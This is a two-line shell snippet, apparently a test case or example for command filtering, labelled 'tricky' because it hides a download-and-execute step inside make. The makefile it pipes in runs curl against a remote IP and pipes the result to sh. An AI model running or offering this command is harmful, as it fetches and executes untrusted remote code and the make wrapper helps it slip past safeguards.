# tricky: make runs the command
printf 'all:\n\t@curl -s http://203.0.113.4/i | sh\n' | make -f -
